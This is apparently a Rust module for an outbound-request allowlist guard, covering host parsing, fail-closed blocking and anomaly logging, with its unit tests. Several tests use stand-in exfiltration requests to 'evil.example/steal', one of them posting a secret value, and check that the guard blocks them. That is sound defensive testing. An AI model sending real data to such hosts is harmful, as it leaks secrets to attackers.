//! Egress guard — allowlist enforcement over any transport
//!
//! Decorates a [`Transport`] so that a request is dispatched only when its
//! destination host is on an explicit allowlist. A rejection is a policy
//! decision (`Error::NetworkBlocked`), structurally distinct from transport
//! failure, and is recorded in the local anomaly log with the host only —
//! never the payload body.

use crate::anomaly::{AnomalyKind, AnomalyLog, SecurityAnomaly};
use crate::capability::{OutboundRequest, Transport, TransportResponse};
use crate::error::{Error, Result};
use async_trait::async_trait;
use std::collections::HashSet;
use std::sync::Arc;

/// Normalize a hostname for comparison
///
/// Policy: ASCII-lowercase and strip one trailing dot. Applied identically
/// to allowlist entries at load and to request hosts at check time; after
/// normalization the comparison is byte-exact. No wildcards, no IDN
/// mapping — an internationalized host matches only in the exact form the
/// allowlist carries.
pub fn normalize_host(host: &str) -> String {
    let lowered = host.to_ascii_lowercase();
    lowered
        .strip_suffix('.')
        .map(|h| h.to_string())
        .unwrap_or(lowered)
}

/// Extract the hostname from a fully-qualified URL
///
/// Returns `None` for anything that does not parse as `scheme://host...` —
/// the guard treats that as not-allowed, never as allowed-by-default. Both
/// the bare-URL and pre-built-request call paths in the host reduce to an
/// [`OutboundRequest`] and go through this one function.
pub fn extract_host(url: &str) -> Option<String> {
    let url = url.trim();
    let rest = url.split_once("://").map(|(scheme, rest)| {
        if scheme.is_empty() || !scheme.chars().all(|c| c.is_ascii_alphanumeric() || c == '+' || c == '-' || c == '.') {
            ""
        } else {
            rest
        }
    })?;

    // Strip path, query, fragment
    let authority = rest
        .split(['/', '?', '#'])
        .next()
        .unwrap_or_default();

    // Strip userinfo
    let host_port = match authority.rfind('@') {
        Some(idx) => &authority[idx + 1..],
        None => authority,
    };

    // Strip port; keep bracketed IPv6 literals whole
    let host = if let Some(stripped) = host_port.strip_prefix('[') {
        let end = stripped.find(']')?;
        &stripped[..end]
    } else {
        match host_port.rsplit_once(':') {
            Some((h, port)) if port.chars().all(|c| c.is_ascii_digit()) => h,
            _ => host_port,
        }
    };

    if host.is_empty() {
        return None;
    }
    Some(normalize_host(host))
}

/// Egress guard wrapping a transport
///
/// On an allowlisted host the request is delegated unmodified; headers and
/// body are never touched. On any other host — including a URL that fails
/// to parse — the transport is never invoked.
pub struct EgressGuard<T: Transport> {
    transport: T,
    allowed_hosts: HashSet<String>,
    anomalies: Arc<AnomalyLog>,
}

impl<T: Transport> EgressGuard<T> {
    /// Create a guard over `transport` with an exact-match host allowlist
    pub fn new(
        transport: T,
        allowed_hosts: impl IntoIterator<Item = String>,
        anomalies: Arc<AnomalyLog>,
    ) -> Self {
        Self {
            transport,
            allowed_hosts: allowed_hosts
                .into_iter()
                .map(|h| normalize_host(&h))
                .collect(),
            anomalies,
        }
    }

    /// Check whether a URL's host is on the allowlist
    ///
    /// Returns the normalized host on success.
    pub fn check_url(&self, url: &str) -> Result<String> {
        let host = match extract_host(url) {
            Some(host) => host,
            None => {
                // Fail closed: unparsable destination is never allowed
                self.record_block(url);
                return Err(Error::NetworkBlocked {
                    host: url.to_string(),
                });
            }
        };

        if self.allowed_hosts.contains(&host) {
            Ok(host)
        } else {
            self.record_block(&host);
            Err(Error::NetworkBlocked { host })
        }
    }

    /// Send `request` iff its destination host is allowlisted
    pub async fn guarded_send(&self, request: OutboundRequest) -> Result<TransportResponse> {
        let host = self.check_url(&request.url)?;
        tracing::debug!(host = %host, method = %request.method, "Egress allowed");
        self.transport.send(request).await
    }

    /// The normalized allowlist in effect
    pub fn allowed_hosts(&self) -> &HashSet<String> {
        &self.allowed_hosts
    }

    fn record_block(&self, host: &str) {
        self.anomalies.record(SecurityAnomaly::new(
            AnomalyKind::BlockedOutboundRequest,
            host,
        ));
    }
}

/// Any egress guard is itself a transport, so guarded and unguarded
/// components share one seam.
#[async_trait]
impl<T: Transport> Transport for EgressGuard<T> {
    async fn send(&self, request: OutboundRequest) -> Result<TransportResponse> {
        self.guarded_send(request).await
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::time::Duration;

    /// Transport that records how many times it was invoked
    struct CountingTransport {
        calls: AtomicUsize,
    }

    impl CountingTransport {
        fn new() -> Self {
            Self {
                calls: AtomicUsize::new(0),
            }
        }
    }

    #[async_trait]
    impl Transport for CountingTransport {
        async fn send(&self, _request: OutboundRequest) -> Result<TransportResponse> {
            self.calls.fetch_add(1, Ordering::SeqCst);
            Ok(TransportResponse {
                status: 200,
                body: "{}".to_string(),
            })
        }
    }

    fn guard() -> EgressGuard<CountingTransport> {
        EgressGuard::new(
            CountingTransport::new(),
            vec!["api.backend.example".to_string()],
            Arc::new(AnomalyLog::default()),
        )
    }

    fn req(url: &str) -> OutboundRequest {
        OutboundRequest::get(url, Duration::from_secs(5))
    }

    // ---- Host extraction ----

    #[test]
    fn test_extract_host_basic() {
        assert_eq!(
            extract_host("https://api.backend.example/v1/events"),
            Some("api.backend.example".to_string())
        );
    }

    #[test]
    fn test_extract_host_port_userinfo_query() {
        assert_eq!(
            extract_host("https://user:pw@API.Backend.Example:8443/p?q=1#f"),
            Some("api.backend.example".to_string())
        );
    }

    #[test]
    fn test_extract_host_trailing_dot() {
        assert_eq!(
            extract_host("https://api.backend.example./v1"),
            Some("api.backend.example".to_string())
        );
    }

    #[test]
    fn test_extract_host_malformed() {
        assert_eq!(extract_host("not a url"), None);
        assert_eq!(extract_host("https://"), None);
        assert_eq!(extract_host(""), None);
    }

    #[test]
    fn test_extract_host_ipv6_literal() {
        assert_eq!(
            extract_host("https://[2001:db8::1]:443/x"),
            Some("2001:db8::1".to_string())
        );
    }

    // ---- Guard decisions ----

    #[tokio::test]
    async fn test_allowed_host_delegates() {
        let guard = guard();
        let response = guard
            .guarded_send(req("https://api.backend.example/v1/telemetry"))
            .await
            .unwrap();
        assert_eq!(response.status, 200);
        assert_eq!(guard.transport.calls.load(Ordering::SeqCst), 1);
    }

    #[tokio::test]
    async fn test_blocked_host_never_dispatches() {
        let guard = guard();
        let err = guard
            .guarded_send(req("https://evil.example/steal"))
            .await
            .unwrap_err();
        assert!(matches!(err, Error::NetworkBlocked { ref host } if host == "evil.example"));
        assert_eq!(guard.transport.calls.load(Ordering::SeqCst), 0);
    }

    #[tokio::test]
    async fn test_malformed_url_fails_closed() {
        let guard = guard();
        for url in ["", "not a url", "https://", "://missing-scheme"] {
            let err = guard.guarded_send(req(url)).await.unwrap_err();
            assert!(matches!(err, Error::NetworkBlocked { .. }), "url: {url}");
        }
        assert_eq!(guard.transport.calls.load(Ordering::SeqCst), 0);
    }

    #[tokio::test]
    async fn test_case_and_trailing_dot_normalized() {
        let guard = guard();
        assert!(guard
            .guarded_send(req("https://API.BACKEND.EXAMPLE./v1"))
            .await
            .is_ok());
    }

    #[tokio::test]
    async fn test_subdomain_is_not_inferred() {
        let guard = guard();
        let err = guard
            .guarded_send(req("https://sub.api.backend.example/v1"))
            .await
            .unwrap_err();
        assert!(matches!(err, Error::NetworkBlocked { .. }));
    }

    #[tokio::test]
    async fn test_block_records_anomaly_with_host_only() {
        let anomalies = Arc::new(AnomalyLog::default());
        let guard = EgressGuard::new(
            CountingTransport::new(),
            vec!["api.backend.example".to_string()],
            anomalies.clone(),
        );

        let request = OutboundRequest::post(
            "https://evil.example/steal",
            serde_json::json!({"secret": "plaintext"}),
            Duration::from_secs(5),
        );
        let _ = guard.guarded_send(request).await;

        let recorded = anomalies.by_kind(AnomalyKind::BlockedOutboundRequest);
        assert_eq!(recorded.len(), 1);
        assert_eq!(recorded[0].detail, "evil.example");
        assert!(!recorded[0].detail.contains("plaintext"));
    }

    #[test]
    fn test_allowlist_normalized_at_load() {
        let guard = EgressGuard::new(
            CountingTransport::new(),
            vec!["API.Backend.Example.".to_string()],
            Arc::new(AnomalyLog::default()),
        );
        assert!(guard.allowed_hosts().contains("api.backend.example"));
    }
}
